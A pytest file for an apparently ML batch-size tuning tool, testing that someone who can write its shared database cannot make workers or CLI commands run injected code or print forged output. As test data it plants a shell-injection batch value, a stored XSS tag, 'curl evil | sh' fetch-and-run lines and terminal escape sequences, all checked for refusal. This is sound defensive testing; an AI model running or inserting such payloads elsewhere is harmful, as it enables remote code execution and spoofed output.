"""Safe to share, round 2 (issue 40): an attacker who can write the shared database but holds no job key.

Every row a worker, ``run``, ``best``, ``report`` or ``gc`` reads that the job's signature does not cover is
planted or edited here, as such a writer would, on a real SQLite file and on the suite's PostgreSQL server
(where the shared role owns the tables and can change a column's type first). Real ``autotune submit`` and
``autotune worker`` processes; each test names what happened before the change."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import optuna
import pytest
import sqlalchemy
from cli.test_gc import folders, tuned
from optuna.distributions import CategoricalDistribution
from workers.test_signed_jobs import QUICK, engine, submit, submitted, worker

from autotune import api as autotune_api
from autotune.core.errors import InputError
from autotune.core.plans import Backend, parse_plan
from autotune.hardware.devices import cpu_device
from autotune.hardware.meters import RssMeter
from autotune.leases.identity import host_name
from autotune.search.records import TrialRecord
from autotune.search.spec import tune_spec
from autotune.storage import BestRow, open_store
from autotune.storage.database import parse_url, redact
from autotune.trials.command import TrialCommand, fill
from autotune.trials.measurement import measure_spec, run_trial
from autotune.trials.settings import TrialSettings
from autotune.trials.workload import workload_of
from autotune.workers.signing import JobKey

from conftest import AUTOTUNE, SYNTHETIC, TEST_JOB_KEY


def shell_template(tmp_path: Path) -> list[str]:
    """A signed template that passes ``{batch_size}`` through a shell, as a user's ``bash -c`` job does."""
    script = tmp_path / "train.py"
    script.write_text(SYNTHETIC.read_text())
    return ["sh", "-c", f"{sys.executable} {script} --base-mib 8 --seed {{batch_size}}"]


def plant_lease(storage: str, study: str, kind: str, batch: Any, plan: str = "none", **more: Any) -> None:
    """A lease row as a writer of the database inserts it (any value in any column)."""
    row = {"study_name": study, "kind": kind, "batch_size": batch, "plan": plan, "attempt": 0,
           "state": "queued", "worker": None, "device": None, "trial_number": None, "beats": 0,
           "note": "planted", "updated_at": dt.datetime(2026, 1, 1), **more}  # fmt: skip
    names = ", ".join(row)
    values = ", ".join(f":{k}" for k in row)
    with engine(storage).begin() as conn:
        conn.execute(sqlalchemy.text(f"INSERT INTO autotune_leases ({names}) VALUES ({values})"), row)


def probe_key(command: list[str]) -> str:
    """The probe lease's key of ``command`` on this CPU (autotune.search.probing)."""
    return f"workload-{workload_of(TrialCommand.parse(command), cpu_device(), Backend.TORCH).fingerprint}"


def display(storage: str) -> str:
    """How autotune names the database in a line (the password hidden)."""
    return redact(parse_url(storage))


def job_state(storage: str, study: str) -> str:
    with engine(storage).connect() as conn:
        query = "SELECT state FROM autotune_jobs WHERE study_name = :s"
        return str(conn.execute(sqlalchemy.text(query), {"s": study}).scalar_one())


def text_column(storage: str) -> None:
    """On PostgreSQL, what the shared role can do first: make the batch column take text."""
    if storage.startswith("postgresql"):
        with engine(storage).begin() as conn:
            conn.execute(sqlalchemy.text("ALTER TABLE autotune_leases ALTER COLUMN batch_size TYPE text"))


def test_a_probe_lease_planted_with_a_shell_command_for_batch_runs_nothing(
    tmp_path: Path, storage: str
) -> None:
    """Before: the worker said "signature verified" and ran ``touch PWNED`` through the signed template."""
    canary = tmp_path / "PWNED"
    command = shell_template(tmp_path)
    submitted(storage, "shell-job", *command)
    text_column(storage)
    plant_lease(storage, probe_key(command), "probe", f"1; touch {canary} #")

    lines = worker(storage, tmp_path / "cache")

    assert not canary.exists()
    damaged = (f"[cpu] job shell-job failed: database {display(storage)}: lease 1 of study "
               f"'{probe_key(command)}' is damaged: its batch_size '1; touch {canary} #' is not a whole "
               "number >= 1")  # fmt: skip
    assert damaged in lines, lines
    assert lines[-1] == "worker: 0 trial(s); jobs done: -; failed: shell-job; refused: -"
    assert job_state(storage, "shell-job") == "failed"


def test_a_batch_that_is_not_a_whole_number_reaches_no_command_whoever_asks(tmp_path: Path) -> None:
    """fill() and the trial launcher refuse it themselves, before anything starts (the lease check above is
    one caller of many)."""
    template = ["sh", "-c", "python train.py --bs {batch_size}"]
    for bad in ("1; touch x #", "1", 0, -2, True, 1.0):
        with pytest.raises(InputError, match=r"^a trial's batch size must be a whole number >= 1, got "):
            fill(template, bad, None)  # type: ignore[arg-type]
        with pytest.raises(InputError, match=r"^a trial's batch size must be a whole number >= 1, got "):
            run_trial(TrialCommand.parse(template), bad, parse_plan("none"), cpu_device(), RssMeter(),  # type: ignore[arg-type]
                      TrialSettings(), tmp_path, {})  # fmt: skip
    with pytest.raises(
        InputError, match=r"^a trial's gradient accumulation must be a whole number >= 1, got '2'"
    ):
        fill(template, 4, "2")  # type: ignore[arg-type]
    assert fill(template, 4, None) == ["sh", "-c", "python train.py --bs 4"]
    assert not (tmp_path / "trials").exists()


def test_a_clean_job_completes_beside_every_bad_row_and_the_worker_serves_on(
    tmp_path: Path, storage: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: each bad row ended the worker (exit 1 or 2) and the clean job was never served."""
    script = tmp_path / "train.py"
    script.write_text(SYNTHETIC.read_text())
    for study in (
        "b-mac",
        "c-outside",
        "d-kind",
        "e-superscript",
        "f-optuna",
        "z-clean",
    ):  # z-clean: served last
        submitted(storage, study, str(script), "--base-mib", "8")
    # a signature whose MAC is not ASCII (hmac.compare_digest raised TypeError)
    with engine(storage).begin() as conn:
        conn.execute(sqlalchemy.text("UPDATE autotune_jobs SET signature = :s WHERE study_name = 'b-mac'"),
                     {"s": f"v1:{JobKey(TEST_JOB_KEY.encode(), '').key_id}:{'é' * 64}"})  # fmt: skip
    plant_lease(storage, "c-outside", "trial", 7)  # a batch the job's space (1-4) does not hold
    plant_lease(storage, "d-kind", "evil", 1)  # a kind no autotune writes
    plant_lease(storage, "e-superscript", "trial", 2, state="running", worker=f"{host_name()}:²:1")
    optuna.create_study(
        study_name="f-optuna", storage=storage.replace("postgresql://", "postgresql+psycopg://")
    )
    monkeypatch.setenv("AUTOTUNE_HEARTBEAT_GRACE", "3")  # the superscript worker's lease: dead after 3 s

    lines = worker(storage, tmp_path / "cache")

    db = display(storage)
    failed = [
        line for line in lines if line.startswith("[cpu]") and (" failed: " in line or "refused: " in line)
    ]
    assert failed == [
        "[cpu] refused: job b-mac: its signature is not one this autotune writes (v1:<key id>:<hmac>)",
        "[cpu] job c-outside failed: study 'c-outside': lease 1 from the database names batch 7 and plan 'none', "
        "which are not in the job's search space (the database was edited)",
        f"[cpu] job d-kind failed: database {db}: lease 2 of study 'd-kind' is damaged: its kind 'evil' is not a "
        "lease kind",
        f"[cpu] job f-optuna failed: study 'f-optuna' in {db} was not created by autotune, which never writes to "
        "it: choose another --study",
    ], lines
    summary = re.fullmatch(r"worker: \d+ trial\(s\); jobs done: (.*); failed: (.*); refused: (.*)", lines[-1])
    assert summary is not None, lines
    assert (sorted(summary[1].split(", ")), summary[2], summary[3]) == (
        ["e-superscript", "z-clean"], "c-outside, d-kind, f-optuna", "b-mac")  # fmt: skip
    assert [job_state(storage, s) for s in ("c-outside", "d-kind", "e-superscript", "z-clean")] == [
        "failed", "failed", "done", "done"]  # fmt: skip
    # the superscript worker's lease was taken for a dead worker's and its configuration retried
    assert any(re.fullmatch(r"\[cpu\] trial \d+: batch 2, plan none \(retry\)", line) for line in lines), (
        lines
    )


def sql(cache: Path, statement: str, **values: Any) -> None:
    with engine(f"sqlite:///{cache / 'autotune.db'}").begin() as conn:
        conn.execute(sqlalchemy.text(statement), values)


def cli(cache: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([AUTOTUNE, *argv, "--cache-dir", str(cache)], capture_output=True, text=True,
                          timeout=120, cwd=cache)  # fmt: skip


def test_a_stored_answer_that_is_not_autotune_s_reaches_no_page_and_no_paste(tmp_path: Path) -> None:
    """Before: `report` put the tag in the page unescaped (stored XSS), and `best --format torchrun` printed
    a batch holding a newline as a second pasted line."""
    tuned(tmp_path, "answered")
    tag = "<img src=x onerror=alert(1)>"
    sql(tmp_path, "UPDATE autotune_best SET batch_size = :b", b=tag)

    page = cli(tmp_path, "report", "answered", "-o", str(tmp_path / "page.html"))
    pasted = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")

    db = display(f"sqlite:///{tmp_path}/autotune.db")
    line = (f"Error: database {db}: the stored answer of study 'answered' is damaged: its "
            f"batch_size '{tag}' is not a whole number >= 1\n")  # fmt: skip
    assert (page.returncode, page.stderr) == (5, line)
    assert not (tmp_path / "page.html").exists()
    sql(tmp_path, "UPDATE autotune_best SET batch_size = :b", b="8\ncurl evil | sh")
    pasted = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")
    assert (pasted.returncode, pasted.stdout) == (5, "")
    assert pasted.stderr.startswith("Error: database ") and pasted.stderr.count("\n") == 1


def test_the_printed_command_is_the_signed_job_s_and_an_edited_one_is_not_printed(tmp_path: Path) -> None:
    """Before: `best --format torchrun` printed the "tuned command" from the unsigned workload row."""
    tuned(tmp_path, "answered")
    evil = json.dumps({"command": ["sh", "-c", "curl evil | sh"], "is_template": True})
    sql(tmp_path, "UPDATE autotune_workloads SET details = :d", d=evil)

    signed = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")

    assert signed.returncode == 0, signed.stderr
    assert "curl" not in signed.stdout
    assert f"python {SYNTHETIC} --base-mib 8" in signed.stdout.splitlines()[1], signed.stdout
    spec = json.loads(stored_spec(tmp_path, "answered"))
    sql(tmp_path, "UPDATE autotune_jobs SET spec = :s WHERE study_name = 'answered'",
        s=json.dumps({**spec, "command": ["sh", "-c", "curl evil | sh"], "is_template": True}))  # fmt: skip
    edited = cli(tmp_path, "best", "--study", "answered", "--format", "torchrun")
    assert edited.returncode == 0, edited.stderr
    assert "curl" not in edited.stdout
    assert edited.stdout.splitlines()[1] == (
        "# the study's job does not verify: it was changed after it was signed (its command, options or script "
        "hashes are not what was submitted); its stored command is not printed"
    )


def stored_spec(cache: Path, study: str) -> str:
    with engine(f"sqlite:///{cache / 'autotune.db'}").connect() as conn:
        query = "SELECT CAST(spec AS TEXT) FROM autotune_jobs WHERE study_name = :s"
        return str(conn.execute(sqlalchemy.text(query), {"s": study}).scalar_one())


def test_text_from_the_database_reaches_no_terminal_as_control_characters(tmp_path: Path) -> None:
    """Before: `show`, `studies` and the worker's lines printed ESC, CR and LF as they were stored (a title
    set, the screen cleared, forged lines); a trial whose kind is no autotune kind ended `show`."""
    tuned(tmp_path, "answered")
    forged = "\x1b]0;owned\x07\x1b[2J\rok\nforged line"
    sql(tmp_path, "UPDATE trial_user_attributes SET value_json = :v WHERE key = 'note'", v=json.dumps(forged))
    sql(tmp_path, "UPDATE autotune_jobs SET error = :e", e=forged)
    sql(tmp_path, "UPDATE trial_user_attributes SET value_json = '\"evil\"' WHERE key = 'kind' AND trial_id = "
                  "(SELECT trial_id FROM trials WHERE number = 0)")  # fmt: skip

    shown, listed = cli(tmp_path, "show", "answered"), cli(tmp_path, "studies")

    for done in (shown, listed):
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout + done.stderr and "\r" not in done.stdout + done.stderr
        assert "forged line" not in done.stdout.splitlines()
    assert "\\x1b]0;owned\\x07" in shown.stdout
    assert ("study 'answered': skipping trial 0, which is damaged: ValueError: 'evil' is not a valid TrialKind"
            in shown.stderr.splitlines()), shown.stderr  # fmt: skip


def test_gc_removes_only_a_folder_that_says_it_is_that_trial_s(tmp_path: Path) -> None:
    """Before: gc removed any folder under trials/ that a finished trial's log_dir named."""
    tuned(tmp_path, "finished")
    tuned(tmp_path, "running", "--step-seconds", "0.02")
    sql(tmp_path, "UPDATE autotune_jobs SET state = 'running' WHERE study_name = 'running'")
    theirs = [f for f in folders(tmp_path, "running")]
    victim = log_dirs(tmp_path, "running")[0]
    sql(tmp_path, "UPDATE trial_user_attributes SET value_json = :v WHERE key = 'log_dir' AND trial_id = "
                  "(SELECT MIN(t.trial_id) FROM trials t JOIN studies s USING (study_id) WHERE s.study_name = "
                  "'finished')", v=json.dumps(str(victim)))  # fmt: skip

    others = {p for p in log_dirs(tmp_path, "finished") if p != victim}

    collected = cli(tmp_path, "gc")

    assert collected.returncode == 0, collected.stderr
    assert victim.is_dir() and len(theirs) == len(folders(tmp_path, "running"))
    assert sum(folders(tmp_path, "finished").values()) == 1  # the edited trial's own folder is left, unproven
    assert collected.stdout.startswith(f"removed {len(others)} trial folder(s) (")


def log_dirs(cache: Path, study: str) -> list[Path]:
    with engine(f"sqlite:///{cache / 'autotune.db'}").connect() as conn:
        rows = conn.execute(sqlalchemy.text(
            "SELECT a.value_json FROM trials t JOIN studies s USING (study_id) JOIN trial_user_attributes a "
            "USING (trial_id) WHERE s.study_name = :s AND a.key = 'log_dir' ORDER BY t.number"), {"s": study})  # fmt: skip
        return [Path(json.loads(v)) for (v,) in rows]


def test_a_finished_signed_job_set_back_to_open_does_not_run_again_unless_submitted_again(
    tmp_path: Path, storage: str
) -> None:
    """Before: a database writer who set a finished job's state back to open (its answer deleted) made every
    worker run it again."""
    script = tmp_path / "train.py"
    script.write_text(SYNTHETIC.read_text())
    submit(storage, "once", str(script), "--", "--base-mib", "8")
    first = worker(storage, tmp_path / "cache")
    assert first[-1].startswith("worker: ") and "jobs done: once;" in first[-1], first
    with engine(storage).begin() as conn:
        conn.execute(sqlalchemy.text("DELETE FROM autotune_best"))
        conn.execute(sqlalchemy.text("UPDATE autotune_jobs SET state = 'open'"))

    again = worker(storage, tmp_path / "cache")

    assert again[-2:] == [
        "[cpu] refused: job once: this worker ran it to its end before (the same signature): it runs again when "
        "its submitter submits it again (autotune submit --force)",
        "worker: 0 trial(s); jobs done: -; failed: -; refused: once",
    ], again
    forced = subprocess.run([AUTOTUNE, "submit", "--force", *QUICK, "--study", "once", "--storage", storage,
                             str(script), "--", "--base-mib", "8"], capture_output=True, text=True, timeout=120)  # fmt: skip
    assert forced.returncode == 0, forced.stderr
    rerun = worker(storage, tmp_path / "cache")
    assert "jobs done: once;" in rerun[-1] and not rerun[-1].startswith("worker: 0 "), rerun


def test_the_library_makes_its_files_private_as_the_cli_does(tmp_path: Path) -> None:
    """Before: through autotune.submit/measure, the database, cache dir and logs were created 0644/0755."""
    user = os.umask(0o022)
    try:
        spec = tune_spec([str(SYNTHETIC)], "300MiB", storage=f"sqlite:///{tmp_path / 'jobs.db'}", study="p")
        autotune_api.submit(spec)
        measured = autotune_api.measure(
            measure_spec(
                [str(SYNTHETIC), "--base-mib", "8"],
                2,
                device="cpu",
                cache_dir=tmp_path / "cache",
                settings=TrialSettings(1, 2, 60, 60),
            )
        )
        assert os.umask(0o022) == 0o022  # the caller's umask is back
    finally:
        os.umask(user)
    assert measured.outcome.value == "complete", measured.error
    assert stat.S_IMODE((tmp_path / "jobs.db").stat().st_mode) == 0o600
    folders = [tmp_path / "cache", *(p for p in (tmp_path / "cache").rglob("*") if p.is_dir())]
    assert len(folders) >= 3 and {stat.S_IMODE(p.stat().st_mode) for p in folders} == {0o700}
    written = [p for p in (tmp_path / "cache").rglob("*") if p.name in ("request.json", "stdout.log")]
    assert len(written) == 2 and {stat.S_IMODE(p.stat().st_mode) for p in written} == {0o600}


def test_a_password_in_storage_is_warned_of_with_the_alternative_and_a_chosen_key_is_refused(
    tmp_path: Path,
) -> None:
    """Before: `--storage postgresql://user:password@...` put the password in `ps` without a word, and any
    32 characters were a key (a passphrase can be guessed offline from a stored signature)."""
    url = "postgresql://tuner:s3cret@127.0.0.1:9/none"
    warned = subprocess.run(
        [AUTOTUNE, "studies", "--storage", url], capture_output=True, text=True, timeout=60
    )
    quiet = subprocess.run([AUTOTUNE, "studies"], capture_output=True, text=True, timeout=60,
                           env={**os.environ, "AUTOTUNE_STORAGE": url})  # fmt: skip
    warning = ("Warning: the password in --storage can be read by every user of this host (ps) and stays in your "
               "shell's history: give the URL in AUTOTUNE_STORAGE instead, or leave the password out and put it in "
               "~/.pgpass (or PGPASSWORD)")  # fmt: skip
    assert warned.stderr.splitlines()[0] == warning
    assert warning not in quiet.stderr and quiet.returncode == warned.returncode == 5
    chosen = subprocess.run([AUTOTUNE, "worker", "--once", "--storage", f"sqlite:///{tmp_path / 'x.db'}"],
                            capture_output=True, text=True, timeout=60,
                            env={**os.environ, "AUTOTUNE_JOB_KEY": "correct horse battery staple, twice over"})  # fmt: skip
    assert (chosen.returncode, chosen.stderr) == (2, (
        "Error: AUTOTUNE_JOB_KEY: a job key must be 64 hex digits as autotune keygen writes them (a chosen key can "
        "be guessed from the signatures stored in the database), got 40 characters\n"))  # fmt: skip


def test_an_answer_whose_interval_reaches_below_zero_is_autotune_s_own_and_reads_back(tmp_path: Path) -> None:
    """The checks above refuse what autotune never writes, nothing it does: a loaded machine's readings can
    scatter so widely that the interval's low edge is below 0 (CI's fresh run: -4.79 samples/s, which the
    first version of the check refused as damaged, in a stored answer and in a trial alike)."""
    store = open_store(f"sqlite:///{tmp_path / 'autotune.db'}")
    row = BestRow("s", 3, 8, "none", 2**20, 50.6, 2**20, 50.6, -0.5, 101.8, 4, "busy")
    store.save_best(row)
    assert store.best("s") == row
    frozen = optuna.trial.create_trial(
        params={"batch_size": 8, "plan": "none"},
        distributions={
            "batch_size": CategoricalDistribution((8,)),
            "plan": CategoricalDistribution(("none",)),
        },
        value=50.6,
        user_attrs={
            "kind": "measured",
            "outcome": "complete",
            "samples_per_sec": 50.6,
            "samples_per_sec_low": -0.5,
            "samples_per_sec_high": 101.8,
        },
    )
    assert TrialRecord.from_frozen(frozen).samples_per_sec_low == -0.5  # a reading, not a damaged trial
